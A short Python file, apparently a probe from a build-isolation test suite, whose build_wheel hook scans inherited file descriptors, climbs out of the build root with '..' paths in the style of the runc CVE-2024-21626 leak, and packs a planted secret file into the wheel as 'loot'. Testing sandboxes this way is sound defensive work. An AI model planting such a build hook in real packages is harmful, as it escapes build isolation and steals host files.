"""Opens a planted file by a path that begins at an inherited directory and goes up first.

An open directory is a way out of any new root, for its parents are still the old ones.
runc left one open (CVE-2024-21626).
"""

import contextlib
import os

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("climb"):
        path = os.path.join("..", "..", kit.plant("secret").path.lstrip("/"))
        for descriptor in range(3, 256):
            with contextlib.suppress(OSError):  # closed, or no directory
                secret = os.open(path, os.O_RDONLY, dir_fd=descriptor)
                loot["data.bin"] = os.read(secret, 4096)
                os.close(secret)
    return kit.wheel(wheel_directory, loot)
